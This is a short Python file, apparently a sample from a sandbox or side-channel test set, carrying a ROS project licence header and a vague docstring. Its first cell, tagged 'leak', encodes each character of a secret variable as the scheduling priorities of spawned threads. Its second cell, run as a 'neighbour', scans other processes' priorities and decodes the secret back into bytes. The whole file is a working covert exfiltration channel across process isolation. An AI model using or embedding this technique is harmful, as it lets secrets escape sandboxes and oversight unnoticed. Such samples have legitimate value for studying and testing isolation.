# Copyright 2026 The spatialclaw_ros authors
#
# Licensed under the Apache License, Version 2.0 (the "License");
# you may not use this file except in compliance with the License.
# You may obtain a copy of the License at
#
#     http://www.apache.org/licenses/LICENSE-2.0
#
# Unless required by applicable law or agreed to in writing, software
# distributed under the License is distributed on an "AS IS" BASIS,
# WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
# See the License for the specific language governing permissions and
# limitations under the License.

"""Send a text by the priorities of one's own threads.

A query that runs at once may ask for them.
"""

# act: leak
import os
import threading

stay = threading.Event()
threading.stack_size(65536)


def speak(value, told):
    os.setpriority(os.PRIO_PROCESS, threading.get_native_id(), value)
    told.set()
    stay.wait(4)


for letter in PRIVATE:
    for value in divmod(ord(letter), 16):
        told = threading.Event()
        threading.Thread(target=speak, args=(value, told), daemon=True).start()
        told.wait(1)
os.setpriority(os.PRIO_PROCESS, 0, 19)
# %% neighbour
import os

values = []
for number in range(os.getpid() - 5, os.getpid() + 5000):
    try:
        values.append(os.getpriority(os.PRIO_PROCESS, number))
    except ProcessLookupError:
        continue
start = values.index(19) + 1 if 19 in values else 0
values = values[start:start + 64]
print(bytes(16 * high + low for high, low in zip(values[::2], values[1::2])))
